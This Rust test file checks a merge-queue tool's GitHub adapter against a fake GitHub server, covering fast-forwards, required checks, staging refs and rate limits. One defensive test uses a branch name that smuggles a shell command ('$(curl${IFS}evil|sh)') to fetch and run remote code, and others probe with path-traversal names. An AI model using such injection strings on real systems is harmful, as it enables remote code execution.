    let push = got
        .events("push")
        .into_iter()
        .find(|v| v["ref"] == "refs/heads/main")
        .expect("a push webhook for main");
    assert_eq!(push["before"], target.as_str());
    assert_eq!(push["after"], car.as_str());
    assert_eq!(push["forced"], false);

    // Once more to the same sha: already there, nothing changes.
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
}

#[tokio::test]
async fn a_push_that_races_the_landing_makes_it_not_a_fast_forward_and_nothing_lands() {
    let (_dir, hub) = hub().await;
    let got = receiver(&hub).await;
    // Webhooks take 400 ms, as they may on GitHub: sluice cannot know of
    // the push below when it lands, and need not.
    hub.set_delivery_delay(Duration::from_millis(400));
    let (n1, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    let pushed = hub
        .commit(
            REPO,
            "main",
            None,
            &[("hotfix.txt", "fix\n")],
            "Hotfix by a person",
        )
        .await
        .unwrap();
    let mark = hub.request_mark();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::NotFastForward
    );
    assert_eq!(hub.requests_since(mark).len(), 1, "a 422 is not retried");
    assert_eq!(main_head(&hub).await, pushed, "the person's commit stays");
    assert!(
        !is_ancestor(&hub, &car, &pushed).await,
        "the untested car is not on main"
    );
    assert!(!hub.pr(REPO, n1).unwrap().merged);
    hub.idle().await;
    assert!(
        got.events("push")
            .iter()
            .all(|v| v["after"] != car.as_str() || v["ref"] != "refs/heads/main"),
        "no push of the car to main"
    );
}

#[tokio::test]
async fn a_fast_forward_is_retried_on_a_502_and_reports_failures() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    hub.inject_fault(Fault::status(
        "PATCH",
        &format!("/repos/{REPO}/git/refs/heads/main"),
        502,
        1,
    ));
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);

    let gone = gh.fast_forward(&repo(), "no-such-branch", &car).await;
    assert!(
        matches!(&gone, RefUpdate::Failed { reason } if reason.contains("Reference does not exist")),
        "{gone:?}"
    );
    let hostile = gh.fast_forward(&repo(), "a..b", &car).await;
    assert!(matches!(hostile, RefUpdate::Failed { .. }), "{hostile:?}");
}

// ------------------------------------------------------------ required checks

#[tokio::test]
async fn a_required_check_refuses_the_landing_until_the_car_has_its_success() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (n2, h2) = pr(&hub, "two", &[("two.txt", "2\n")]).await;
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let gh = github(&hub);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string()]
    );
    assert_eq!(
        gh.required_checks(&repo(), "one").await.unwrap(),
        Vec::<String>::new(),
        "an unprotected branch requires nothing"
    );

    let target = main_head(&hub).await;
    let car = one_pr_car(&gh, &target, &h1).await;
    let refused = gh.fast_forward(&repo(), "main", &car).await;
    assert_eq!(
        refused,
        RefUpdate::Refused {
            reason: "Required status check \"sluice\" is expected.".into()
        }
    );
    assert_eq!(main_head(&hub).await, target);

    let pending = CommitStatus {
        state: CommitState::Pending,
        description: "testing".into(),
        target_url: None,
        summary: String::new(),
    };
    gh.set_status(&repo(), &car, &pending).await.unwrap();
    assert!(matches!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Refused { .. }
    ));
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);

    // Protection that changes after it was read: the landing GitHub
    // refuses makes the adapter read it again (it is remembered otherwise).
    gh.required_checks(&repo(), "main").await.unwrap();
    hub.protect_branch(REPO, "main", &["sluice", "lint"])
        .unwrap();
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string()],
        "remembered"
    );
    let next = one_pr_car(&gh, &car, &h2).await;
    gh.set_status(&repo(), &next, &success()).await.unwrap();
    assert!(matches!(
        gh.fast_forward(&repo(), "main", &next).await,
        RefUpdate::Refused { .. }
    ));
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string(), "lint".to_string()],
        "read again after the refusal"
    );
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();

    // The old way refuses as GitHub does without the check on the head...
    let key = PrKey {
        repo: repo(),
        number: n2,
    };
    let refused = gh.merge(&key, &h2, MergeMethod::Merge, "Two").await;
    assert_eq!(
        refused,
        MergeResult::Refused {
            reason: "Required status check \"sluice\" is expected.".into()
        }
    );
    let raw = reqwest::Client::new()
        .put(format!("{}/repos/{REPO}/pulls/{n2}/merge", hub.api_url()))
        .bearer_auth(TOKEN)
        .json(&json!({"sha": h2.as_str()}))
        .send()
        .await
        .unwrap();
    assert_eq!(raw.status(), 405);
    let body: Value = raw.json().await.unwrap();
    assert_eq!(
        body["message"],
        "Required status check \"sluice\" is expected."
    );
    // ...and merges once the head has it.
    gh.set_status(&repo(), &h2, &success()).await.unwrap();
    assert!(matches!(
        gh.merge(&key, &h2, MergeMethod::Merge, "Two").await,
        MergeResult::Merged { .. }
    ));
}

#[tokio::test]
async fn several_required_checks_are_counted_and_protection_forbids_force() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    hub.protect_branch(REPO, "main", &["sluice", "ci/lint"])
        .unwrap();
    let gh = github(&hub);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string(), "ci/lint".to_string()]
    );
    let target = main_head(&hub).await;
    let car = one_pr_car(&gh, &target, &h1).await;
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Refused {
            reason: "1 of 2 required status checks are expected.".into()
        }
    );
    // A forced move of a protected branch is refused even with the checks.
    let old = hub
        .commit(REPO, "side", Some("main"), &[("s", "s")], "side")
        .await
        .unwrap();
    let raw = reqwest::Client::new()
        .patch(format!(
            "{}/repos/{REPO}/git/refs/heads/main",
            hub.api_url()
        ))
        .bearer_auth(TOKEN)
        .json(&json!({"sha": old.as_str(), "force": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(raw.status(), 422);
    let del = reqwest::Client::new()
        .delete(format!(
            "{}/repos/{REPO}/git/refs/heads/main",
            hub.api_url()
        ))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 422);
    let body: Value = del.json().await.unwrap();
    assert_eq!(body["message"], "Cannot delete a protected branch");
    assert_eq!(main_head(&hub).await, target);

    hub.unprotect_branch(REPO, "main");
    assert!(
        gh.required_checks(&repo(), "main")
            .await
            .unwrap()
            .is_empty()
    );
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
}

// ------------------------------------------------------------ staging refs

#[tokio::test]
async fn staging_refs_are_listed_moved_and_deleted_and_only_sluices_own() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    // Branches that only look like sluice's.
    hub.commit(REPO, "sluicey", Some("main"), &[("x", "x")], "x")
        .await
        .unwrap();
    let target = main_head(&hub).await;
    let gh = github(&hub);
    assert!(gh.staging_refs(&repo()).await.unwrap().is_empty());
    for name in ["sluice/main/2", "sluice/main/1", "sluice/dev/x/1"] {
        gh.put_staging_ref(&repo(), name, &target).await.unwrap();
    }
    gh.put_staging_ref(&repo(), "sluice/main/2", &h1)
        .await
        .unwrap();
    // Moved back with force: staging refs are sluice's to rewrite.
    gh.put_staging_ref(&repo(), "sluice/main/2", &target)
        .await
        .unwrap();
    gh.put_staging_ref(&repo(), "sluice/main/2", &h1)
        .await
        .unwrap();
    assert_eq!(
        gh.staging_refs(&repo()).await.unwrap(),
        vec![
            ("sluice/dev/x/1".to_string(), target.clone()),
            ("sluice/main/1".to_string(), target.clone()),
            ("sluice/main/2".to_string(), h1.clone()),
        ]
    );

    gh.delete_staging_ref(&repo(), "sluice/main/1")
        .await
        .unwrap();
    assert_eq!(hub.branch_head(REPO, "sluice/main/1").await, None);
    gh.delete_staging_ref(&repo(), "sluice/main/1")
        .await
        .expect("deleting what is gone is fine");
    let names: Vec<String> = gh
        .staging_refs(&repo())
        .await
        .unwrap()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(names, vec!["sluice/dev/x/1", "sluice/main/2"]);

    let mark = hub.request_mark();
    for name in [
        "main",
        "sluicey",
        "sluice/",
        "feature/sluice/1",
        "sluice/main/../x",
    ] {
        let err = gh.put_staging_ref(&repo(), name, &h1).await.unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
        let err = gh.delete_staging_ref(&repo(), name).await.unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
        let err = gh
            .merge_into_staging(&repo(), name, ANY_PR, &h1, MergeMethod::Merge, "m")
            .await
            .unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
    }
    assert!(
        hub.requests_since(mark).is_empty(),
        "a refused name never reaches GitHub"
    );
    assert_eq!(main_head(&hub).await, target);
    assert_eq!(
        hub.branch_head(REPO, "sluicey")
            .await
            .map(|s| s.to_string()),
        Some(git(None, &hub, &["rev-parse", "refs/heads/sluicey"]).await)
    );
}

#[tokio::test]
async fn a_hostile_branch_name_is_only_a_path_segment() {
    let (_dir, hub) = hub().await;
    let gh = github(&hub);
    let target = main_head(&hub).await;
    let name = "sluice/$(curl${IFS}evil|sh)/1";
    gh.put_staging_ref(&repo(), name, &target).await.unwrap();
    assert_eq!(hub.branch_head(REPO, name).await, Some(target.clone()));
    assert_eq!(
        gh.staging_refs(&repo()).await.unwrap(),
        vec![(name.to_string(), target)]
    );
    gh.delete_staging_ref(&repo(), name).await.unwrap();
    assert_eq!(hub.branch_head(REPO, name).await, None);
}

/// A forge that implements only what the old trait asked for.
struct OldForge;

#[async_trait::async_trait]
impl Forge for OldForge {
    async fn list_open_prs(
        &self,
        _: &RepoName,
    ) -> Result<Vec<sluice::core::PrSnapshot>, ForgeError> {
        Ok(Vec::new())
    }
    async fn get_pr(&self, _: &PrKey) -> Result<Option<PrFetch>, ForgeError> {
        Ok(None)
    }
    async fn reviews(&self, _: &PrKey) -> Result<Vec<sluice::core::ReviewFact>, ForgeError> {
        Ok(Vec::new())
    }
    async fn branch_head(&self, _: &RepoName, _: &str) -> Result<Option<Sha>, ForgeError> {
        Ok(None)
    }
    async fn set_status(&self, _: &RepoName, _: &Sha, _: &CommitStatus) -> Result<(), ForgeError> {
        Ok(())
    }
    async fn merge(&self, _: &PrKey, _: &Sha, _: MergeMethod, _: &str) -> MergeResult {
        MergeResult::HeadMoved
    }
}

#[tokio::test]
async fn other_forges_say_the_train_methods_are_not_supported() {
    let f = OldForge;
    let sha = Sha::parse(&"a".repeat(40)).unwrap();
    let err = f.put_staging_ref(&repo(), "sluice/main/1", &sha).await;
    assert!(matches!(err, Err(ForgeError::Unsupported { .. })));
    assert!(matches!(
        f.fast_forward(&repo(), "main", &sha).await,
        RefUpdate::Failed { reason } if reason.contains("not supported by this forge")
    ));
    assert!(f.staging_refs(&repo()).await.is_err());
    assert!(f.required_checks(&repo(), "main").await.is_err());
    let key = PrKey {
        repo: repo(),
        number: 1,
    };
    assert!(matches!(
        f.close_landed_pr(&key, &sha, &sha, "x").await,
        Err(ForgeError::Unsupported { .. })
    ));
    assert!(matches!(
        f.merge_into_staging(&repo(), "sluice/main/1", 1, &sha, MergeMethod::Squash, "x")
            .await,
        Err(ForgeError::Unsupported { .. })
    ));
    assert!(matches!(
        f.is_ancestor(&repo(), &sha, &sha).await,
        Err(ForgeError::Unsupported { .. })
    ));
}

/// After a restart sluice asks whether the target still holds the car it
/// landed, though a person pushed on top of it since (GitHub's compare).
#[tokio::test]
async fn is_ancestor_says_whether_a_landed_car_is_under_the_target() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (_, other) = pr(&hub, "other", &[("other.txt", "o\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    let pushed = hub
        .commit(REPO, "main", None, &[("hotfix.txt", "fix\n")], "Hotfix")
        .await
        .unwrap();
    let holds = |a: Sha, d: Sha| {
        let gh = &gh;
        async move { gh.is_ancestor(&repo(), &a, &d).await.unwrap() }
    };
    assert!(holds(car.clone(), pushed.clone()).await, "ahead");
    assert!(holds(car.clone(), car.clone()).await, "identical");
    assert!(holds(target.clone(), pushed.clone()).await, "ahead by more");
    assert!(!holds(pushed.clone(), car.clone()).await, "behind");
    assert!(!holds(other.clone(), pushed.clone()).await, "diverged");
    let unknown = Sha::parse(&"e".repeat(40)).unwrap();
    assert!(
        !holds(unknown, pushed.clone()).await,
        "a commit GitHub lacks"
    );
    // A 502 is retried like any call.
    hub.inject_fault(Fault::status(
        "GET",
        &format!("/repos/{REPO}/compare/"),
        502,
        1,
    ));
    assert!(holds(car.clone(), pushed.clone()).await);

    // The fake's answer, as GitHub's compare reads.
    let spec = format!("/compare/{target}...{pushed}");
    let (code, _, v) = raw(&hub, "GET", &spec, None, None).await;
    assert_eq!(code, 200, "{v}");
    assert_eq!(v["status"], "ahead");
    assert_eq!(v["ahead_by"], 3, "the car, one's commit and the hotfix");
    assert_eq!(v["behind_by"], 0);
    assert_eq!(v["base_commit"]["sha"], target.as_str());
    assert_eq!(v["merge_base_commit"]["sha"], target.as_str());
    let (_, _, v) = raw(
        &hub,
        "GET",
        &format!("/compare/{other}...{pushed}"),
        None,
        None,
    )
    .await;
    assert_eq!(v["status"], "diverged");
    assert_eq!(v["behind_by"], 1);
    let (_, _, v) = raw(&hub, "GET", "/compare/main...one", None, None).await;
    assert_eq!(v["status"], "behind", "branch names work too: {v}");
    let (code, _, v) = raw(
        &hub,
        "GET",
        &format!("/compare/{}...main", "e".repeat(40)),
        None,
        None,
    )
    .await;
    assert_eq!(code, 404, "{v}");
    assert_eq!(v["message"], "Not Found");
}

/// The fake keeps every move of a branch with the checks the commit had
/// then: statuses posted after the move do not count for it.
#[tokio::test]
async fn the_fake_records_each_branch_move_with_the_checks_its_commit_had() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    let pushed = hub
        .commit(REPO, "main", None, &[("hotfix.txt", "fix\n")], "Hotfix")
        .await
        .unwrap();
    gh.set_status(&repo(), &pushed, &success()).await.unwrap();
    let main: Vec<_> = hub
        .branch_moves(REPO)
        .into_iter()
        .filter(|m| m.branch == "main")
        .collect();
    assert_eq!(main.len(), 2, "{main:?}");
    assert_eq!(main[0].before.as_ref(), Some(&target));
    assert_eq!(main[0].after.as_ref(), Some(&car));
    assert_eq!(main[0].pusher, sluice::fakehub::MERGER);
    assert_eq!(main[0].successful_checks, vec![success_context(&hub, &car)]);
    assert_eq!(main[1].after.as_ref(), Some(&pushed));
    assert_eq!(main[1].pusher, "octo");
    assert!(
        main[1].successful_checks.is_empty(),
        "its status came after"
    );
    let staging: Vec<_> = hub
        .branch_moves(REPO)
        .into_iter()
        .filter(|m| m.branch == "sluice/main/1")
        .collect();
    assert_eq!(staging[0].before, None, "created");
    assert_eq!(staging[1].after.as_ref(), Some(&car));
}

/// The context sluice's statuses are posted with (by `GitHub::set_status`).
fn success_context(hub: &FakeHub, sha: &Sha) -> String {
    hub.statuses(REPO, sha.as_str())
        .last()
        .unwrap()
        .context
        .clone()
}

// ------------------------------------------------------------ the fake itself

async fn raw(
    hub: &FakeHub,
    method: &str,
    path: &str,
    body: Option<Value>,
    tag: Option<&str>,
) -> (u16, reqwest::header::HeaderMap, Value) {
    let mut r = reqwest::Client::new()
        .request(
            method.parse().unwrap(),
            format!("{}/repos/{REPO}{path}", hub.api_url()),
        )
        .bearer_auth(TOKEN);
    if let Some(b) = body {
        r = r.json(&b);
    }
    if let Some(t) = tag {
        r = r.header("if-none-match", t);
    }
    let resp = r.send().await.unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let text = resp.text().await.unwrap();
    let v = if text.is_empty() {
        Value::Null
    } else {
        serde_json::from_str(&text).unwrap()
    };
    (status, headers, v)
}

#[tokio::test]
async fn the_fakes_pr_commits_close_and_comment_endpoints_answer_as_github_does() {
    let (_dir, hub) = hub().await;
    let (n, head) = pr_of(
        &hub,
        "a",
        &[
            (&[("a.txt", "1\n")], "One\n\nBody.", ("alice", None)),
            (
                &[("a.txt", "2\n")],
                "Two",
                ("Bob", Some("bob@example.invalid")),
            ),
            (&[("a.txt", "3\n")], "Three", ("alice", None)),
        ],
    )
    .await;
    // GET pulls/{n}/commits: oldest first, paginated, the commits API's
    // shape (octocrab's model parses it).
    let (status, headers, page) = raw(
        &hub,
        "GET",
        &format!("/pulls/{n}/commits?per_page=2"),
        None,
        None,
    )
    .await;
    assert_eq!(status, 200);
    let commits: Vec<octocrab::models::repos::RepoCommit> =
        serde_json::from_value(page.clone()).expect("commits parse");
    assert_eq!(commits.len(), 2);
    assert_eq!(commits[0].commit.message, "One\n\nBody.");
    assert_eq!(page[0]["commit"]["author"]["name"], "alice");
    assert_eq!(page[0]["author"]["login"], "alice");
    assert_eq!(page[1]["commit"]["author"]["email"], "bob@example.invalid");
    assert_eq!(
        page[1]["author"],
        Value::Null,
        "an address GitHub does not know"
    );
    assert_eq!(page[1]["parents"][0]["sha"], page[0]["sha"]);
    let link = headers["link"].to_str().unwrap();
    assert!(link.contains("rel=\"next\""), "{link}");
    let (_, _, rest) = raw(
        &hub,
        "GET",
        &format!("/pulls/{n}/commits?per_page=2&page=2"),
        None,
        None,
    )
    .await;
    assert_eq!(rest[0]["sha"], head.as_str(), "the head is last");
    let (status, _, _) = raw(&hub, "GET", "/pulls/999/commits", None, None).await;
    assert_eq!(status, 404);

    // POST and GET issues/{n}/comments, in the example's shape.
    let (status, _, body) = raw(
        &hub,
        "POST",
        &format!("/issues/{n}/comments"),
        Some(json!({"body": "Me too"})),
        None,
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let example: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("testdata/github-api/issues__create-comment.response.201.default.json"),
        )
        .unwrap(),
    )
    .unwrap();
    for key in example.as_object().unwrap().keys() {
        assert!(body.get(key).is_some(), "the comment lacks {key:?}: {body}");
    }
    let _: octocrab::models::issues::Comment =
        serde_json::from_value(body.clone()).expect("comment parses");
    assert_eq!(body["body"], "Me too");
    assert_eq!(body["user"]["login"], sluice::fakehub::MERGER);
    let (status, _, list) = raw(&hub, "GET", &format!("/issues/{n}/comments"), None, None).await;
    assert_eq!(status, 200);
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert_eq!(list[0]["id"], body["id"]);
    let (status, _, e) = raw(
        &hub,
        "POST",
        &format!("/issues/{n}/comments"),
        Some(json!({})),
        None,
    )
    .await;
    assert_eq!(status, 422, "{e}");
    let (status, _, _) = raw(
        &hub,
        "POST",
        "/issues/999/comments",
        Some(json!({"body": "x"})),
        None,
    )
    .await;
    assert_eq!(status, 404);

    // PATCH pulls/{n}: closed, answered with the PR.
    let (status, _, e) = raw(
        &hub,
        "PATCH",
        &format!("/pulls/{n}"),
        Some(json!({"state": "shut"})),
        None,
    )
    .await;
    assert_eq!(status, 422, "{e}");
    assert_eq!(hub.pr(REPO, n).unwrap().state, "open");
    let (status, _, pr) = raw(
        &hub,
        "PATCH",
        &format!("/pulls/{n}"),
        Some(json!({"state": "closed"})),
        None,
    )
    .await;
    assert_eq!(status, 200, "{pr}");
    let parsed: octocrab::models::pulls::PullRequest =
        serde_json::from_value(pr.clone()).expect("PR parses");
    assert_eq!(parsed.number, n);
    assert_eq!(pr["state"], "closed");
    assert_eq!(pr["merged"], false);
    assert!(pr["closed_at"].is_string());
    // Closing what is closed is no change.
    let (status, _, _) = raw(
        &hub,
        "PATCH",
        &format!("/pulls/{n}"),
        Some(json!({"state": "closed"})),
        None,
    )
    .await;
    assert_eq!(status, 200);
    let (status, _, _) = raw(
        &hub,
        "PATCH",
        "/pulls/999",
        Some(json!({"state": "closed"})),
        None,
    )
    .await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn the_fakes_ref_and_merge_endpoints_answer_as_github_does() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("README.md", "a\n")]).await;
    let (_, b) = pr(&hub, "b", &[("README.md", "b\n")]).await;
    let t = main_head(&hub).await;

    // Create: 201 with the ref object (octocrab's model); 422 if it exists.
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/x", "sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 201);
    let r: octocrab::models::repos::Ref = serde_json::from_value(v).unwrap();
    assert_eq!(r.ref_field, "refs/heads/x");
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/x", "sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference already exists"))
    );
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/refs",
        Some(json!({"ref": "refs/heads/y", "sha": "b".repeat(40)})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Object does not exist"))
    );

    // Update: fast-forward 200; backwards without force 422; with force 200.
    let (s, _, _) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": a.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 200);
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": false})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Update is not a fast forward"))
    );
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": "true"})),
        None,
    )
    .await;
    assert_eq!(s, 422, "force must be a boolean: {v}");
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/x",
        Some(json!({"sha": t.as_str(), "force": true})),
        None,
    )
    .await;
    assert_eq!((s, v["object"]["sha"].as_str()), (200, Some(t.as_str())));
    let (s, _, v) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/nope",
        Some(json!({"sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference does not exist"))
    );

    // Merges: 201 commit (octocrab's model), 204 nothing to merge, 409
    // conflict, 404 missing base or head.
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": a.as_str(), "commit_message": "Shipped a"})),
        None,
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let c: octocrab::models::repos::RepoCommit = serde_json::from_value(v).unwrap();
    assert_eq!(c.commit.message, "Shipped a");
    assert_eq!(c.parents.len(), 2);
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": "a"})),
        None,
    )
    .await;
    assert_eq!(s, 204);
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": b.as_str()})),
        None,
    )
    .await;
    assert_eq!((s, v["message"].as_str()), (409, Some("Merge conflict")));
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "nope", "head": "a"})),
        None,
    )
    .await;
    assert_eq!(s, 404);
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "x", "head": "nope"})),
        None,
    )
    .await;
    assert_eq!(s, 404);

    // Git commits: 201 and readable (octocrab's model); bad tree 422.
    let tree = tree_of(&hub, &a).await;
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/git/commits",
        Some(json!({"message": "squashed", "tree": tree, "parents": [t.as_str()]})),
        None,
    )
    .await;
    assert_eq!(s, 201, "{v}");
    let made: octocrab::models::commits::GitCommitObject = serde_json::from_value(v).unwrap();
    assert_eq!(made.tree.sha, tree);
    let (s, _, v) = raw(
        &hub,
        "GET",
        &format!("/git/commits/{}", made.sha),
        None,
        None,
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(v["parents"][0]["sha"], t.as_str());
    assert_eq!(v["message"], "squashed");
    let (s, _, _) = raw(
        &hub,
        "POST",
        "/git/commits",
        Some(json!({"message": "m", "tree": "c".repeat(40)})),
        None,
    )
    .await;
    assert_eq!(s, 422);

    // Delete: 204, then 422.
    let (s, _, _) = raw(&hub, "DELETE", "/git/refs/heads/x", None, None).await;
    assert_eq!(s, 204);
    let (s, _, v) = raw(&hub, "DELETE", "/git/refs/heads/x", None, None).await;
    assert_eq!(
        (s, v["message"].as_str()),
        (422, Some("Reference does not exist"))
    );

    // Protection: 404 unprotected, then the rule (octocrab's model).
    let (s, _, v) = raw(
        &hub,
        "GET",
        "/branches/main/protection/required_status_checks",
        None,
        None,
    )
    .await;
    assert_eq!(
        (s, v["message"].as_str()),
        (404, Some("Branch not protected"))
    );
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let (s, _, v) = raw(
        &hub,
        "GET",
        "/branches/main/protection/required_status_checks",
        None,
        None,
    )
    .await;
    assert_eq!(s, 200);
    let checks: octocrab::models::repos::RequiredStatusChecks = serde_json::from_value(v).unwrap();
    assert_eq!(checks.contexts, vec!["sluice".to_string()]);
    assert!(!checks.strict);
    let (_, _, v) = raw(&hub, "GET", "/branches/main", None, None).await;
    assert_eq!(v["protected"], true);
    assert_eq!(
        v["protection"]["required_status_checks"]["contexts"],
        json!(["sluice"])
    );
}

#[tokio::test]
async fn the_new_reads_answer_etags_and_304s_and_writes_count_against_the_limit() {
    let (_dir, hub) = hub().await;
    let t = main_head(&hub).await;
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &t)
        .await
        .unwrap();
    for path in [
        "/git/ref/heads/sluice/main/1".to_string(),
        "/git/matching-refs/heads/sluice/".to_string(),
        format!("/git/commits/{t}"),
        "/branches/main/protection/required_status_checks".to_string(),
    ] {
        let (s, h, _) = raw(&hub, "GET", &path, None, None).await;
        assert_eq!(s, 200, "{path}");
        let tag = h["etag"].to_str().unwrap().to_string();
        let remaining: u64 = h["x-ratelimit-remaining"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        let (s, h, _) = raw(&hub, "GET", &path, None, Some(&tag)).await;
        assert_eq!(s, 304, "{path}");
        let after: u64 = h["x-ratelimit-remaining"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert_eq!(after, remaining, "{path}: a 304 costs nothing");
    }
    let (_, h, _) = raw(&hub, "GET", "/git/ref/heads/main", None, None).await;
    let before: u64 = h["x-ratelimit-remaining"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    let (s, h, _) = raw(
        &hub,
        "PATCH",
        "/git/refs/heads/sluice/main/1",
        Some(json!({"sha": t.as_str()})),
        None,
    )
    .await;
    assert_eq!(s, 200);
    let after: u64 = h["x-ratelimit-remaining"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(after, before - 1, "a ref update counts");

    // The adapter's repeated reads are conditional: the second costs nothing.
    gh.staging_refs(&repo()).await.unwrap();
    gh.required_checks(&repo(), "main").await.unwrap();
    let mark = hub.request_mark();
    assert_eq!(gh.staging_refs(&repo()).await.unwrap().len(), 1);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice"]
    );
    let log = hub.requests_since(mark);
    // The staging refs are asked again (a 304, free); the required checks
    // are remembered (`REQUIRED_CHECKS_TTL`) and not asked at all.
    assert_eq!(log.len(), 1, "{log:?}");
    assert!(log.iter().all(|r| r.status == 304 && !r.counted), "{log:?}");

    // With the limit used up, the new endpoints are refused like the others.
    hub.set_rate_limit(hub.rate_limit_used() + 1);
    let (s, _, _) = raw(&hub, "GET", "/git/ref/heads/main", None, None).await;
    assert_eq!(s, 200);
    let (s, _, v) = raw(
        &hub,
        "POST",
        "/merges",
        Some(json!({"base": "sluice/main/1", "head": "main"})),
        None,
    )
    .await;
    assert_eq!(s, 403, "{v}");
    assert!(v["message"].as_str().unwrap().contains("rate limit"));
}
